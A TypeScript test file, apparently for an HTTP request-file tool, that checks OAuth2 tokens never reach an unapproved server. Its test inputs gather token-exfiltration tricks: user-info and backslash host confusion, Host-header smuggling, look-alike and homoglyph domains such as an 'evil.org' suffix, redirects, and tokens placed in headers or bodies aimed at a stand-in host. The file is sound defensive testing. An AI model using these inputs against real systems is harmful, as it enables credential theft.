import '../../../support/fakeEditor.ts';
import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { parseRequestFile } from '../../../../src/requests/parseRequestFile.ts';
import { errorOf } from '../../../../src/session/answerError.ts';
import type { Environment } from '../../../../src/session/environment.ts';
import { requestAt, runRequest } from '../../../../src/session/requestRun.ts';
import { startServer } from '../../../support/startServer.ts';
import { rejection, startedEngine, tokensThen } from '../../session/startedEngine.ts';

const { errorText } = await import('../../../../src/views/errors/errorText.ts');

/** A connection, and a server that nobody approved; both write down what reaches them. */
async function servers(context: TestContext) {
  const stranger = await startServer(context, (_request, response) => response.end('{}'));
  const own = await startServer(
    context,
    tokensThen(({ path }, response) => {
      const leads = path.startsWith('/api/redirect');
      response.writeHead(leads ? 302 : 200, leads ? { location: `${stranger.origin}/caught` } : {});
      response.end(JSON.stringify({ next: `${stranger.origin}/next` }));
    }),
  );
  const engine = startedEngine(context);
  const session = await engine.connect({
    ...{ name: 'Acme', system: 'oauth2', clientId: 'client', safety: 'unrestricted' },
    ...{ tokenEndpoint: `${own.origin}/token`, baseUrl: `${own.origin}/api` },
  });
  const run = (text: string, environment?: Environment) => {
    const written = text
      .replaceAll('OWNHOST', new URL(own.origin).host)
      .replaceAll('STRANGERHOST', new URL(stranger.origin).host)
      .replaceAll('OWN', own.origin)
      .replaceAll('STRANGER', stranger.origin);
    const file = parseRequestFile(`# @connection Acme\n${written}`);
    return runRequest(engine, file, requestAt(file, file.requests.length - 1), { environment });
  };
  return { own, stranger, session, run };
}

/** Each way in which a request file could lead a token astray. */
const ways: Readonly<Record<string, string>> = {
  'a URL that is written out': 'GET STRANGER/x',
  'a variable of the file': '@host = STRANGER\nGET {{host}}/x',
  'a variable that takes the place of one of the connection': '@baseUrl = STRANGER\nGET {{baseUrl}}/x',
  'a variable in the middle of the host': '@end = :1@STRANGERHOST\nGET http://OWNHOST{{end}}/x',
  'a variable of the environment': 'GET {{environmentHost}}/x',
  'a value of an earlier answer':
    '# @name first\nGET OWN/api/x\n\n###\n# @connection Acme\nGET {{first.response.body.$.next}}',
  'a Host header': 'GET OWN/api/x\nHost: STRANGERHOST',
  'a Host header with user-info': 'GET OWN/api/x\nHost: OWNHOST@STRANGERHOST',
  'user-info in the URL': 'GET http://OWNHOST@STRANGERHOST/x',
  'a backslash before the host': 'GET http://STRANGERHOST\\@OWNHOST/x',
  'a token that the file itself puts into a header': 'GET STRANGER/x\nX-Token: {{accessToken}}',
  'a token in the body': 'POST STRANGER/x\nAuthorization: none\n\n{"token": "{{accessToken}}"}',
};

for (const [way, text] of Object.entries(ways)) {
  test(`${way}: nothing goes there, and the person is told where it would have gone`, async (context) => {
    const { own, stranger, run } = await servers(context);
    const host: Environment = {
      names: ['environmentHost'],
      value: (name) => (name === 'environmentHost' ? { value: stranger.origin, isSecret: false } : undefined),
    };
    const error = await rejection(run(text, host));
    const { message } = errorText(error);
    assert.ok(message.includes(new URL(stranger.origin).host), message);
    assert.deepEqual(stranger.requests, []);
    // Not even a token was asked for, but for the request that had to be sent before.
    const asked = own.requests.filter(({ path }) => path === '/token');
    assert.equal(asked.length, text.includes('first') ? 1 : 0);
  });
}

test('a redirect: the answer itself says where it wanted to lead', async (context) => {
  const { stranger, session, run } = await servers(context);
  const { answer } = await run('POST OWN/api/redirect\n\n{"secret": "content"}');
  const { message } = errorText(errorOf(session, answer, await answer.text()));
  assert.ok(message.includes(stranger.origin), message);
  assert.deepEqual(stranger.requests, []);
});

for (const lookAlike of [
  'https://api.example.com.evil.org/x',
  'https://аpi.example.com/x',
  'https://api.example.com./x',
]) {
  test(`${lookAlike} is told by the name under which it would be reached`, async (context) => {
    const { run } = await servers(context);
    const { message } = errorText(await rejection(run(`GET ${lookAlike}`)));
    assert.ok(message.includes(new URL(lookAlike).origin), message);
  });
}

test('variables of proxies in the environment of a folder change nothing of the way', async (context) => {
  const { own, stranger, run } = await servers(context);
  const proxies: Environment = {
    names: ['http_proxy', 'HTTP_PROXY', 'ALL_PROXY'],
    value: (name) => (/proxy/i.test(name) ? { value: stranger.origin, isSecret: false } : undefined),
  };
  await run('GET OWN/api/x\nX-Proxy: {{HTTP_PROXY}}', proxies);
  assert.equal(own.requests.at(-1)?.headers['x-proxy'], stranger.origin);
  assert.deepEqual(stranger.requests, []);
});
